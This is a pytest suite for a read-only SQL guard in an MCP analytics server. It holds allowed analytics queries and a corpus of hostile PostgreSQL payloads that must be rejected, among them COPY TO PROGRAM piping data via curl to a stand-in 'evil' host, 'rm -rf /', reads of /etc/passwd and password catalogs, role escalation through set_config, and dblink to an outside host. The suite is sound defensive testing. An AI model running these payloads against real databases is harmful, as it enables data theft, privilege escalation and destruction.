"""Tests for the SQL guard (``zava_mcp.db.guard``): no database needed.

``ATTACK_CORPUS`` is importable by other test modules: each entry is a hostile payload and a
substring the rejection message must contain.
"""

from __future__ import annotations

import re
import subprocess
import sys
import textwrap
import threading

import pglast
import pytest

from zava_mcp.db import guard
from zava_mcp.db.guard import GuardedQuery, check_query
from zava_mcp.errors import QueryRejectedError
from zava_mcp.security import policy

MAX_MESSAGE_LENGTH = 200

OVERLONG_QUERY = "SELECT 1 AS x" + " " * 20_000 + ", 2 AS y"
DEEP_PARENS = "SELECT " + "(" * 5000 + "1" + ")" * 5000
DEEP_SUBSELECTS = "SELECT " + "(SELECT " * 2000 + "1" + ")" * 2000
DEEP_NOT_CHAIN = "SELECT " + "NOT " * 4000 + "true"
DEEP_OPERATOR_CHAIN = "SELECT " + "+".join(["1"] * 5000)

# --------------------------------------------------------------------------------------------
# Allowed analytics queries
# --------------------------------------------------------------------------------------------

ALLOWED_QUERIES: list[str] = [
    # plain selects, qualified and unqualified retail relations
    "SELECT 1",
    "SELECT * FROM retail.orders LIMIT 10",
    "SELECT o.id, o.total_amount FROM orders o WHERE o.total_amount > 100"
    " ORDER BY o.total_amount DESC",
    # a trailing semicolon and comments
    "SELECT count(*) FROM retail.orders;",
    "-- monthly revenue\nSELECT /* inline */ sum(total_amount) FROM retail.orders -- trailing\n;",
    # CTEs, including recursive
    """
    WITH monthly AS (
        SELECT date_trunc('month', order_date) AS month, sum(total_amount) AS revenue
        FROM retail.orders GROUP BY 1
    ), ranked AS (
        SELECT month, revenue, rank() OVER (ORDER BY revenue DESC) AS r FROM monthly
    )
    SELECT * FROM ranked WHERE r <= 3
    """,
    """
    WITH RECURSIVE days(d) AS (
        SELECT date '2024-01-01'
        UNION ALL
        SELECT d + 1 FROM days WHERE d < date '2024-01-31'
    )
    SELECT d FROM days
    """,
    # window functions
    """
    SELECT store_id, order_date AS day, sum(total_amount) AS revenue,
           avg(sum(total_amount)) OVER (PARTITION BY store_id ORDER BY order_date
                                 ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS rolling
    FROM retail.orders GROUP BY store_id, order_date
    """,
    "SELECT id, lag(total_amount) OVER w, lead(total_amount) OVER w FROM orders"
    " WINDOW w AS (ORDER BY id)",
    # ordered-set aggregates and FILTER
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total_amount) AS median FROM retail.orders",
    "SELECT count(*) FILTER (WHERE total_amount > 100) AS big, count(*) AS n FROM retail.orders",
    # set operations and VALUES
    "SELECT id FROM retail.orders UNION SELECT order_id FROM retail.order_items",
    "SELECT id FROM retail.orders UNION ALL SELECT id FROM retail.customers ORDER BY 1",
    "SELECT id FROM retail.orders INTERSECT SELECT order_id FROM retail.order_items",
    "SELECT id FROM retail.orders EXCEPT SELECT order_id FROM retail.order_items",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT * FROM (VALUES (1), (2)) AS v(n)",
    # LATERAL joins and table functions
    """
    SELECT c.id, last_orders.total_amount
    FROM retail.customers c
    CROSS JOIN LATERAL (
        SELECT o.total_amount FROM retail.orders o WHERE o.customer_id = c.id
        ORDER BY o.order_date DESC LIMIT 3
    ) AS last_orders
    """,
    "SELECT g.day FROM generate_series(date '2024-01-01', date '2024-12-31', interval '1 day')"
    " AS g(day)",
    "SELECT u.x FROM unnest(ARRAY[1, 2, 3]) WITH ORDINALITY AS u(x, n)",
    "SELECT e.key, e.value FROM retail.products p,"
    " jsonb_each(jsonb_build_object('sku', p.sku)) AS e",
    "SELECT jsonb_agg(jsonb_build_object('id', id)) FROM retail.products",
    # date/time functions, EXTRACT, CASE, casts
    "SELECT EXTRACT(YEAR FROM order_date) AS y, count(*) FROM retail.orders GROUP BY 1",
    "SELECT date_trunc('week', now()) - interval '7 days', current_date, now()::date",
    """
    SELECT CASE WHEN total_amount >= 1000 THEN 'large' WHEN total_amount >= 100 THEN 'medium'
                ELSE 'small' END AS bucket, count(*)
    FROM retail.orders GROUP BY 1
    """,
    "SELECT CAST(total_amount AS numeric(12, 2)), total_amount::text, '42'::int,"
    " float8(total_amount), int8(1) FROM retail.orders",
    "SELECT order_date AT TIME ZONE 'UTC', status IS DISTINCT FROM 'x' FROM retail.orders",
    # string functions
    "SELECT lower(last_name), upper(first_name), length(email), substring(email FROM 1 FOR 3),"
    " concat_ws(' ', first_name, last_name), regexp_replace(email, '\\s+', ' ', 'g')"
    " FROM retail.customers WHERE last_name ILIKE '%smith%'",
    "SELECT string_agg(DISTINCT name, ', ' ORDER BY name) FROM retail.categories",
    # subqueries in every position
    "SELECT * FROM retail.customers c WHERE EXISTS "
    "(SELECT 1 FROM retail.orders o WHERE o.customer_id = c.id)",
    "SELECT id, (SELECT max(total_amount) FROM retail.orders) AS top FROM retail.customers"
    " WHERE id IN (SELECT customer_id FROM retail.orders)",
    "SELECT s.total, s.n FROM (SELECT sum(total_amount) AS total, count(*) AS n"
    " FROM retail.orders) s",
    "SELECT (x).n FROM (SELECT row(1, 2) AS x) y(x), LATERAL (SELECT 1 AS n) z",
    # grouping sets, DISTINCT ON, FETCH FIRST
    "SELECT store_id, status, sum(total_amount) FROM retail.orders"
    " GROUP BY ROLLUP (store_id, status)",
    "SELECT DISTINCT ON (customer_id) customer_id, total_amount FROM retail.orders"
    " ORDER BY customer_id, order_date DESC FETCH FIRST 5 ROWS ONLY",
    # a CTE may shadow a catalog name: the reference is to the CTE
    "WITH pg_settings AS (SELECT 1 AS x) SELECT x FROM pg_settings",
    # tablesample with a built-in method
    "SELECT * FROM retail.orders TABLESAMPLE BERNOULLI (10) REPEATABLE (42)",
    # column notation on anonymous records, JSON operators, arrays
    "SELECT (row(1, 'a')).f2, '{\"a\": 1}'::jsonb ->> 'a', (ARRAY[1, 2])[1]",
    # E'' strings may use backslash escapes
    "SELECT E'it\\'s', 'it''s', $$dollar 'quoted'$$",
]


@pytest.mark.parametrize("sql", ALLOWED_QUERIES)
def test_allowed_queries_pass(sql: str) -> None:
    result = check_query(sql)

    assert isinstance(result, GuardedQuery)
    assert result.sql == result.sql.strip()
    assert not result.sql.endswith(";")
    assert result.fingerprint == pglast.fingerprint(result.sql)
    assert len(pglast.parse_sql(result.sql)) == 1
    for relation in result.relations:
        schema, _, name = relation.partition(".")
        assert schema == "retail" and name in policy.AGENT_RELATIONS


def test_at_least_25_allowed_queries() -> None:
    assert len(ALLOWED_QUERIES) >= 25


# --------------------------------------------------------------------------------------------
# The attack corpus: (payload, expected substring of the rejection message)
# --------------------------------------------------------------------------------------------

_SET_CONFIG = "function set_config is not allowed"
_EXPLAIN = "EXPLAIN is not available"

ATTACK_CORPUS: list[tuple[str, str]] = [
    # --- set_config on zava.manager_id / role, everywhere in the tree ---
    ("SELECT set_config('zava.manager_id', '42', false)", _SET_CONFIG),
    ("SELECT set_config('role', 'postgres', false)", _SET_CONFIG),
    (
        "WITH x AS (SELECT set_config('role', 'postgres', false)) SELECT * FROM x",
        _SET_CONFIG,
    ),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL "
        "SELECT n + length(set_config('zava.manager_id', '1', false)) FROM r WHERE n < 2) "
        "SELECT * FROM r",
        _SET_CONFIG,
    ),
    (
        "SELECT * FROM retail.orders WHERE store_id = "
        "(SELECT set_config('zava.manager_id', '1', true)::int)",
        _SET_CONFIG,
    ),
    (
        "SELECT * FROM retail.orders WHERE set_config('zava.manager_id', '7', false) IS NOT NULL",
        _SET_CONFIG,
    ),
    (
        "SELECT * FROM retail.orders o, LATERAL (SELECT set_config('role', 'postgres', false)) s",
        _SET_CONFIG,
    ),
    ("SELECT id, set_config('role', 'postgres', false) FROM retail.orders", _SET_CONFIG),
    (
        "SELECT id FROM retail.orders ORDER BY set_config('zava.manager_id', '1', false)",
        _SET_CONFIG,
    ),
    ("SELECT length(set_config('zava.manager_id', '1', false))", _SET_CONFIG),
    (
        "SELECT count(*) FROM retail.orders HAVING set_config('role', 'postgres', false) <> ''",
        _SET_CONFIG,
    ),
    (
        "SELECT sum(total) OVER (PARTITION BY set_config('role', 'x', false)) FROM retail.orders",
        _SET_CONFIG,
    ),
    ("SELECT CASE WHEN true THEN set_config('role', 'postgres', false) END", _SET_CONFIG),
    ("VALUES (set_config('zava.manager_id', '1', false))", _SET_CONFIG),
    ("SELECT 'a' UNION SELECT set_config('role', 'postgres', false)", _SET_CONFIG),
    ("SELECT * FROM set_config('role', 'postgres', false)", _SET_CONFIG),
    ("SELECT \"set_config\"('role', 'postgres', false)", _SET_CONFIG),
    ("SELECT U&\"\\0073et_config\"('zava.manager_id', '1', false)", _SET_CONFIG),
    ("SELECT U&\"!0073et_config\" UESCAPE '!'('role', 'postgres', false)", _SET_CONFIG),
    ("SELECT pg_catalog.set_config('zava.manager_id', '1', false)", _SET_CONFIG),
    (
        "SELECT \"PG_CATALOG\".\"SET_CONFIG\"('role', 'postgres', false)",
        "function PG_CATALOG.SET_CONFIG is not allowed",
    ),
    ("EXPLAIN ANALYZE SELECT set_config('role', 'postgres', false)", _EXPLAIN),
    # --- statement stacking ---
    ("SELECT 1; COMMIT; DELETE FROM retail.orders", "only a single statement is allowed"),
    ("SELECT 1; ROLLBACK; SET ROLE postgres", "only a single statement is allowed"),
    ("SELECT 1 /* hide */; DROP TABLE retail.orders -- x", "only a single statement is allowed"),
    ("SELECT 1 -- comment\n; DELETE FROM retail.orders", "only a single statement is allowed"),
    (
        "SELECT 1; -- x\n/* y */ UPDATE retail.orders SET total = 0",
        "only a single statement is allowed",
    ),
    ("COMMIT; SELECT 1", "only a single statement is allowed"),
    # --- SELECT INTO, data-modifying CTEs, locking clauses ---
    ("SELECT * INTO retail.stolen FROM retail.orders", "SELECT INTO is not allowed"),
    ("SELECT * INTO TEMP t FROM retail.orders", "SELECT INTO is not allowed"),
    (
        "WITH x AS (DELETE FROM retail.orders RETURNING *) SELECT * FROM x",
        "data-modifying CTE (DELETE) is not allowed",
    ),
    (
        "WITH x AS (UPDATE retail.orders SET total = 0 RETURNING id) SELECT count(*) FROM x",
        "data-modifying CTE (UPDATE) is not allowed",
    ),
    (
        "WITH x AS (INSERT INTO retail.orders (id) VALUES (1) RETURNING id) SELECT 1",
        "data-modifying CTE (INSERT) is not allowed",
    ),
    (
        "WITH m AS (MERGE INTO retail.orders o USING retail.orders s ON o.id = s.id "
        "WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m",
        "data-modifying CTE (MERGE) is not allowed",
    ),
    (
        "SELECT * FROM (WITH d AS (DELETE FROM retail.orders RETURNING 1) SELECT * FROM d) s",
        "data-modifying CTE (DELETE) is not allowed",
    ),
    ("SELECT * FROM retail.orders FOR UPDATE", "locking clause FOR UPDATE is not allowed"),
    ("SELECT * FROM retail.orders FOR SHARE", "locking clause FOR SHARE is not allowed"),
    (
        "SELECT * FROM retail.orders WHERE id = 1 FOR NO KEY UPDATE",
        "locking clause FOR NO KEY UPDATE is not allowed",
    ),
    (
        "SELECT * FROM (SELECT * FROM retail.orders FOR KEY SHARE) s",
        "locking clause FOR KEY SHARE is not allowed",
    ),
    (
        "WITH c AS (SELECT * FROM retail.orders FOR UPDATE SKIP LOCKED) SELECT * FROM c",
        "locking clause FOR UPDATE is not allowed",
    ),
    # --- other statement kinds ---
    ("COPY retail.orders TO PROGRAM 'curl -d @- http://evil'", "got COPY"),
    ("COPY retail.orders FROM PROGRAM 'rm -rf /'", "got COPY"),
    ("COPY (SELECT * FROM retail.orders) TO '/tmp/orders.csv'", "got COPY"),
    (
        "DO $$ BEGIN PERFORM set_config('role', 'postgres', false); END $$",
        "only SELECT queries are allowed; got DO",
    ),
    ("PREPARE p AS DELETE FROM retail.orders", "only SELECT queries are allowed; got PREPARE"),
    ("EXECUTE p", "only SELECT queries are allowed; got EXECUTE"),
    ("DEALLOCATE ALL", "only SELECT queries are allowed; got DEALLOCATE"),
    ("SET ROLE postgres", "only SELECT queries are allowed; got SET"),
    ("SET zava.manager_id = 1", "only SELECT queries are allowed; got SET"),
    ("SET LOCAL zava.manager_id TO '1'", "only SELECT queries are allowed; got SET"),
    ("SET SESSION AUTHORIZATION postgres", "only SELECT queries are allowed; got SET"),
    ("RESET zava.manager_id", "only SELECT queries are allowed; got RESET"),
    ("RESET ALL", "only SELECT queries are allowed; got RESET"),
    ("SHOW zava.manager_id", "only SELECT queries are allowed; got SHOW"),
    ("CREATE TABLE retail.x (id int)", "only SELECT queries are allowed; got CREATE TABLE"),
    ("CREATE TABLE retail.x AS SELECT 1", "got CREATE TABLE AS"),
    ("DROP TABLE retail.orders", "only SELECT queries are allowed; got DROP"),
    ("ALTER TABLE retail.orders ADD COLUMN x int", "got ALTER TABLE"),
    ("TRUNCATE retail.orders", "only SELECT queries are allowed; got TRUNCATE"),
    ("GRANT ALL ON retail.orders TO PUBLIC", "only SELECT queries are allowed; got GRANT"),
    ("REVOKE SELECT ON retail.orders FROM PUBLIC", "only SELECT queries are allowed; got REVOKE"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "got CREATE FUNCTION"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "got ALTER SYSTEM"),
    ("INSERT INTO retail.orders (id) VALUES (1)", "only SELECT queries are allowed; got INSERT"),
    ("UPDATE retail.orders SET total = 0", "only SELECT queries are allowed; got UPDATE"),
    ("DELETE FROM retail.orders", "only SELECT queries are allowed; got DELETE"),
    (
        "MERGE INTO retail.orders o USING retail.orders s ON o.id = s.id WHEN MATCHED THEN DELETE",
        "only SELECT queries are allowed; got MERGE",
    ),
    ("BEGIN", "only SELECT queries are allowed; got BEGIN"),
    ("START TRANSACTION READ WRITE", "got START TRANSACTION"),
    ("COMMIT", "only SELECT queries are allowed; got COMMIT"),
    ("ROLLBACK", "only SELECT queries are allowed; got ROLLBACK"),
    ("SAVEPOINT s", "only SELECT queries are allowed; got SAVEPOINT"),
    ("LISTEN ch", "only SELECT queries are allowed; got LISTEN"),
    ("NOTIFY ch, 'x'", "only SELECT queries are allowed; got NOTIFY"),
    ("LOCK TABLE retail.orders IN ACCESS EXCLUSIVE MODE", "got LOCK"),
    ("VACUUM FULL retail.orders", "only SELECT queries are allowed; got VACUUM"),
    ("CALL retail.p()", "only SELECT queries are allowed; got CALL"),
    ("LOAD 'plpgsql'", "only SELECT queries are allowed; got LOAD"),
    ("DECLARE c CURSOR FOR SELECT 1", "got DECLARE CURSOR"),
    # --- EXPLAIN: estimates and ANALYZE counts describe every store's rows ---
    ("EXPLAIN DELETE FROM retail.orders", _EXPLAIN),
    ("EXPLAIN ANALYZE UPDATE retail.orders SET total_amount = 0", _EXPLAIN),
    (
        "EXPLAIN ANALYZE WITH d AS (DELETE FROM retail.orders RETURNING 1) SELECT * FROM d",
        _EXPLAIN,
    ),
    ("EXPLAIN CREATE TABLE retail.x AS SELECT 1", _EXPLAIN),
    ("EXPLAIN EXECUTE p", _EXPLAIN),
    ("explain select * from retail.orders where store_id = gen_random_uuid()", _EXPLAIN),
    ("EXPLAIN (ANALYZE, COSTS OFF) SELECT count(*) FROM retail.order_items", _EXPLAIN),
    ("EXPLAIN (COSTS OFF) SELECT * FROM retail.orders", _EXPLAIN),
    # --- SQL-string executors ---
    (
        "SELECT query_to_xml('DELETE FROM retail.orders RETURNING 1', true, false, '')",
        "function query_to_xml is not allowed (executes SQL given as a string)",
    ),
    (
        "SELECT table_to_xml('pg_authid'::regclass, true, false, '')",
        "function table_to_xml is not allowed",
    ),
    ("SELECT * FROM ts_stat('SELECT to_tsvector(rolpassword) FROM pg_authid')", "ts_stat"),
    ("SELECT cursor_to_xml('c', 10, true, false, '')", "function cursor_to_xml"),
    ("SELECT database_to_xml(true, false, '')", "function database_to_xml"),
    # --- sleeping ---
    ("SELECT pg_sleep(10)", "function pg_sleep is not allowed (sleeps)"),
    ("SELECT pg_sleep_for('1 hour')", "function pg_sleep_for is not allowed (sleeps)"),
    ("SELECT pg_sleep_until(now() + interval '1 hour')", "function pg_sleep_until"),
    ("SELECT 1 FROM retail.orders WHERE pg_catalog.pg_sleep(1) IS NULL", "function pg_sleep"),
    ("SELECT o.pg_sleep FROM retail.orders o", "column notation .pg_sleep is not allowed"),
    ("SELECT (o).set_config FROM retail.orders o", "column notation .set_config is not allowed"),
    (
        "select (row('retail.orders'::text, 'reltuples', 1e9)).pg_restore_relation_stats",
        "column notation .pg_restore_relation_stats is not allowed",
    ),
    ("SELECT o.secret_fn FROM retail.orders o", "unknown column .secret_fn"),
    # --- windows into other sessions and hidden row counts (the reproductions) ---
    (
        "select statement from pg_prepared_statement() where random() >= 0",
        "function pg_prepared_statement is not allowed",
    ),
    ("select * from pg_prepared_statements", "relation pg_catalog.pg_prepared_statements"),
    ("select pg_stat_get_backend_activity(1)", "function pg_stat_get_backend_activity"),
    ("select ts_rewrite('a'::tsquery, 'select 1')", "function ts_rewrite is not allowed"),
    ("select pg_logical_emit_message(true, 'x', 'y')", "function pg_logical_emit_message"),
    ("select reltuples from pg_class", "relation pg_catalog.pg_class is not allowed"),
    ("select pg_relation_size('retail.orders')", "function pg_relation_size is not allowed"),
    ("select * from alembic_version", "relation retail.alembic_version is not allowed"),
    ("select * from managers", "relation retail.managers is not allowed"),
    ("select * from retail.product_description_embeddings", "relation retail.product_descr"),
    ("select * from information_schema.tables", "relation information_schema.tables is not"),
    ("select current_setting('zava.manager_id')", "function current_setting is not allowed"),
    ("select 'retail.orders'::regclass", "type regclass is not allowed"),
    ("select regclass('retail.orders')", "function regclass is not allowed"),
    ("select '<a/>'::xml", "type xml is not allowed"),
    ("select xmlelement(name a, 'b')", "Xml Expr is not allowed"),
    ("select repeat('x', 1000000000)", "function repeat is not allowed"),
    ("select $1", "Param Ref is not allowed"),
    ("select x from unnest(array[1]) as t(x public.vector)", "type public.vector is not"),
    ("select 1 OPERATOR(public.<->) 2", "operator public.<-> is not allowed"),
    ("select 1 <-> 2", "operator <-> is not allowed"),
    # --- files and large objects ---
    ("SELECT pg_read_file('/etc/passwd')", "function pg_read_file is not allowed (accesses"),
    ("SELECT pg_read_binary_file('global/pg_control')", "function pg_read_binary_file"),
    ("SELECT * FROM pg_ls_dir('.')", "function pg_ls_dir is not allowed"),
    ("SELECT pg_stat_file('postgresql.conf')", "function pg_stat_file is not allowed"),
    ("SELECT lo_import('/etc/passwd')", "function lo_import is not allowed (accesses server"),
    ("SELECT lo_export(16384, '/tmp/x')", "function lo_export is not allowed"),
    ("SELECT lo_get(16384)", "function lo_get is not allowed (accesses large objects)"),
    ("SELECT loread(lo_open(1, 262144), 100)", "not allowed (accesses large objects)"),
    # --- backend signalling, advisory locks, admin, sequences ---
    ("SELECT pg_terminate_backend(1234)", "function pg_terminate_backend is not allowed"),
    ("SELECT pg_cancel_backend(1234)", "function pg_cancel_backend is not allowed"),
    ("SELECT pg_reload_conf()", "function pg_reload_conf is not allowed"),
    ("SELECT pg_advisory_lock(1)", "function pg_advisory_lock is not allowed (takes advisory"),
    ("SELECT pg_try_advisory_xact_lock(1)", "function pg_try_advisory_xact_lock"),
    ("SELECT pg_switch_wal()", "function pg_switch_wal is not allowed"),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "pg_create_logical_repl"),
    ("SELECT pg_export_snapshot()", "function pg_export_snapshot is not allowed"),
    ("SELECT txid_current()", "function txid_current is not allowed"),
    ("SELECT pg_notify('ch', 'payload')", "function pg_notify is not allowed"),
    ("SELECT nextval('retail.orders_id_seq')", "function nextval is not allowed"),
    ("SELECT * FROM pg_stat_get_activity(NULL)", "function pg_stat_get_activity"),
    ("SELECT pg_blocking_pids(1234)", "function pg_blocking_pids is not allowed"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", "function dblink"),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "function dblink_exec"),
    ("SELECT audit.purge_tool_calls()", "function audit.purge_tool_calls is not allowed"),
    ("SELECT 1 OPERATOR(audit.+) 2", "operator audit.+ is not allowed"),
    ("SELECT id FROM retail.orders ORDER BY id USING OPERATOR(audit.<)", "operator audit.<"),
    ("SELECT 1 WHERE 1 OPERATOR(audit.=) ANY (SELECT 1)", "operator audit.= is not allowed"),
    (
        "SELECT * FROM crosstab('SELECT rolname, 1, 2 FROM pg_authid') AS t(a text, b int)",
        "function crosstab is not allowed (executes SQL given as a string)",
    ),
    ("SELECT * FROM retail.orders TABLESAMPLE system_time (1000)", "tablesample method"),
    # --- relations ---
    ("SELECT * FROM pg_stat_activity", "relation pg_catalog.pg_stat_activity is not allowed"),
    ("SELECT query FROM pg_catalog.pg_stat_activity", "relation pg_catalog.pg_stat_activity"),
    ("SELECT * FROM pg_stat_statements", "relation pg_catalog.pg_stat_statements"),
    ("SELECT * FROM public.pg_stat_statements", "relation public.pg_stat_statements"),
    ("SELECT * FROM pg_settings", "relation pg_catalog.pg_settings is not allowed"),
    ("SELECT rolpassword FROM pg_authid", "relation pg_catalog.pg_authid is not allowed"),
    ("SELECT passwd FROM pg_catalog.pg_shadow", "relation pg_catalog.pg_shadow is not allowed"),
    ("SELECT * FROM pg_locks", "relation pg_catalog.pg_locks is not allowed"),
    ("SELECT * FROM pg_catalog.pg_proc", "relation pg_catalog.pg_proc is not allowed"),
    ("SELECT * FROM pg_largeobject", "relation pg_catalog.pg_largeobject is not allowed"),
    ("SELECT * FROM pg_hba_file_rules", "relation pg_catalog.pg_hba_file_rules"),
    ("TABLE pg_shadow", "relation pg_catalog.pg_shadow is not allowed"),
    ("SELECT * FROM public.secrets", "relation public.secrets is not allowed"),
    ("SELECT * FROM audit.tool_calls", "relation audit.tool_calls is not allowed"),
    (
        "SELECT * FROM information_schema.role_table_grants",
        "relation information_schema.role_table_grants is not allowed",
    ),
    (
        "SELECT * FROM retail.orders o WHERE EXISTS (SELECT 1 FROM audit.tool_calls)",
        "relation audit.tool_calls is not allowed",
    ),
    (
        "SELECT * FROM retail.orders o JOIN LATERAL (SELECT * FROM pg_authid) a ON true",
        "relation pg_catalog.pg_authid is not allowed",
    ),
    (
        "WITH a AS (SELECT * FROM pg_authid), pg_authid AS (SELECT 1) SELECT * FROM a",
        "relation pg_catalog.pg_authid is not allowed",
    ),
    (
        "SELECT * FROM (WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid) a, pg_authid",
        "relation pg_catalog.pg_authid is not allowed",
    ),
    ("SELECT * FROM zava.audit.tool_calls", "relation zava.audit.tool_calls is not allowed"),
    # --- parser differentials ---
    (
        "SELECT '\\' || ' , (SELECT 1) -- '",
        "a backslash before a quote in a string literal is ambiguous",
    ),
    # --- malformed input ---
    ("", "the query is empty"),
    ("   \n\t  ", "the query is empty"),
    ("-- only a comment", "the query is empty"),
    ("/* a comment */ ;", "the query is empty"),
    (";;;", "the query is empty"),
    ("SELEC * FROM retail.orders", 'could not parse the query: syntax error at or near "SELEC"'),
    ("SELECT * FROM", "could not parse the query: syntax error at end of input"),
    ("SELECT 'unterminated", "could not parse the query: unterminated quoted string"),
    ("SELECT 1 /* unterminated", "could not parse the query: unterminated /* comment"),
    ("SELECT 1\x00; DELETE FROM retail.orders", "the query contains a NUL byte"),
    (OVERLONG_QUERY, "the query is too long (20021 characters; the limit is 20000)"),
    (DEEP_PARENS, "the query is nested too deeply"),
    (DEEP_SUBSELECTS, "the query is nested too deeply"),
    (DEEP_NOT_CHAIN, "the query is nested too deeply"),
    (DEEP_OPERATOR_CHAIN, "the query is nested too deeply"),
]


def _short_id(value: object) -> str:
    return repr(value)[:60] if isinstance(value, str) else ""


@pytest.mark.parametrize(("payload", "expected"), ATTACK_CORPUS, ids=_short_id)
def test_attack_corpus_is_rejected(payload: str, expected: str) -> None:
    with pytest.raises(QueryRejectedError) as info:
        check_query(payload)

    error = info.value
    assert error.error_code == "QUERY_REJECTED"
    assert expected in error.message
    assert len(error.message) <= MAX_MESSAGE_LENGTH


def test_attack_corpus_size() -> None:
    assert len(ATTACK_CORPUS) >= 60
    assert len({payload for payload, _ in ATTACK_CORPUS}) == len(ATTACK_CORPUS)


# --------------------------------------------------------------------------------------------
# The GuardedQuery result
# --------------------------------------------------------------------------------------------


def test_result_for_a_simple_query() -> None:
    expected_sql = "SELECT o.id FROM orders o JOIN retail.customers c ON c.id = o.customer_id"

    result = check_query(expected_sql + ";")

    assert (result.sql, result.relations, result.fingerprint) == (
        expected_sql,
        frozenset({"retail.orders", "retail.customers"}),
        pglast.fingerprint(expected_sql),
    )


def test_only_the_guard_makes_a_guarded_query() -> None:
    with pytest.raises(TypeError, match="check_query only"):
        GuardedQuery(sql="select 1", relations=frozenset(), fingerprint="x")


def test_leading_and_trailing_comments_and_semicolons_are_stripped() -> None:
    sql = "-- why\n/* what */ ; SELECT 1 AS a, -- inner\n 2 AS b ;  ; -- done\n/* end */"

    result = check_query(sql)

    assert result.sql == "SELECT 1 AS a, -- inner\n 2 AS b"


def test_stripped_sql_never_ends_inside_a_line_comment() -> None:
    result = check_query("SELECT 1 -- trailing comment without newline")

    assert result.sql == "SELECT 1"
    # The caller may append to the statement safely.
    assert len(pglast.parse_sql(result.sql + " LIMIT 1")) == 1


def test_explain_is_refused_in_every_form() -> None:
    for sql in ("EXPLAIN SELECT 1", "explain (format json) select 1", "EXPLAIN VERBOSE SELECT 1"):
        with pytest.raises(QueryRejectedError, match=_EXPLAIN):
            check_query(sql)


def test_fingerprint_is_stable_across_constants_whitespace_and_comments() -> None:
    first = check_query("SELECT * FROM retail.orders WHERE id = 1")
    second = check_query("select *\n  from retail.orders /* c */ where id = 42;")
    other = check_query("SELECT * FROM retail.customers WHERE id = 1")

    assert first.fingerprint == second.fingerprint
    assert first.fingerprint != other.fingerprint


def test_cte_references_are_not_relations() -> None:
    result = check_query(
        "WITH recent AS (SELECT * FROM retail.orders), top AS (SELECT * FROM recent) "
        "SELECT * FROM top JOIN customers ON true"
    )

    assert result.relations == frozenset({"retail.orders", "retail.customers"})


@pytest.mark.parametrize(
    "relation",
    ["pg_class", "information_schema.tables", "pg_catalog.pg_attribute", "public.alembic_version"],
)
def test_catalog_relations_are_refused(relation: str) -> None:
    with pytest.raises(QueryRejectedError, match="is not allowed"):
        check_query(f"SELECT * FROM {relation}")


def test_recursive_cte_can_reference_itself_but_plain_cte_cannot() -> None:
    check_query(
        "WITH RECURSIVE pg_authid(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM pg_authid "
        "WHERE n < 3) SELECT * FROM pg_authid"
    )
    with pytest.raises(QueryRejectedError, match=re.escape("relation pg_catalog.pg_authid")):
        check_query("WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid")


def test_cte_name_is_visible_in_nested_subqueries_and_set_operation_arms() -> None:
    result = check_query(
        "WITH pg_locks AS (SELECT 1 AS x) "
        "SELECT x FROM pg_locks UNION SELECT (SELECT max(x) FROM pg_locks)"
    )

    assert result.relations == frozenset()


def test_qualified_name_is_never_a_cte_reference() -> None:
    with pytest.raises(QueryRejectedError, match=re.escape("relation pg_catalog.pg_authid")):
        check_query("WITH pg_authid AS (SELECT 1) SELECT * FROM pg_catalog.pg_authid")


def test_schema_names_are_case_sensitive_for_allowing() -> None:
    with pytest.raises(
        QueryRejectedError, match=re.escape("relation RETAIL.orders is not allowed")
    ):
        check_query('SELECT * FROM "RETAIL".orders')


def test_unqualified_pg_name_is_a_catalog_relation() -> None:
    with pytest.raises(
        QueryRejectedError, match=re.escape("relation pg_catalog.pg_user is not allowed")
    ):
        check_query("SELECT * FROM pg_user")
    with pytest.raises(QueryRejectedError, match=re.escape("relation pg_catalog.pg_type")):
        check_query("SELECT * FROM pg_type")


# --------------------------------------------------------------------------------------------
# Functions
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_catalog.now(), pg_catalog.lower('A'), pg_catalog.round(1.5)",
        "SELECT * FROM generate_series(1, 3), pg_catalog.unnest(ARRAY[1])",
        "SELECT jsonb_path_query('{}'::jsonb, '$'), jsonb_array_elements('[1]'::jsonb)",
        "SELECT lower('x'), log(10), ltrim(' a '), to_char(now(), 'YYYY-MM')",
    ],
)
def test_allowed_functions(sql: str) -> None:
    assert isinstance(check_query(sql), GuardedQuery)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT public.similarity('a', 'b')",
        "SELECT retail.get_user_store_list()",
        "SELECT retail.current_manager_id()",
        "SELECT xpath('/a', '<a/>')",
        "SELECT lpad('a', 100000000)",
        "SELECT pg_catalog.pg_typeof(1), pg_catalog.pg_sleep(1)",
    ],
)
def test_functions_off_the_allowlist_are_refused(sql: str) -> None:
    with pytest.raises(QueryRejectedError, match=r"function .* is not allowed"):
        check_query(sql)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("set_config", "changes server configuration"),
        ("SET_CONFIG", "changes server configuration"),
        ("query_to_xml_and_xmlschema", "executes SQL given as a string"),
        ("pg_sleep", "sleeps"),
        ("pg_advisory_unlock_all", "takes advisory locks"),
        ("pg_ls_waldir", "accesses server files"),
        ("lo_unlink", "accesses large objects"),
        ("dblink_connect", "connects to other servers"),
        ("postgres_fdw_disconnect_all", "connects to other servers"),
        ("pg_drop_replication_slot", "replication, WAL or server administration"),
        ("pg_stat_get_backend_pid", "exposes server sessions or statistics"),
        ("pg_prepared_statement", "exposes server sessions or statistics"),
        ("some_new_function", "not an analytics function"),
    ],
)
def test_refusal_reason(name: str, reason: str) -> None:
    assert policy.refusal_reason(name) == reason


def test_no_closed_function_is_on_the_allowlist() -> None:
    assert not [f for f in policy.ALLOWED_FUNCTIONS if policy.is_closed_function(f)]


# --------------------------------------------------------------------------------------------
# Input limits and robustness
# --------------------------------------------------------------------------------------------


def test_max_length_is_configurable() -> None:
    sql = "SELECT 1 AS a"
    assert check_query(sql, max_length=len(sql)).sql == sql
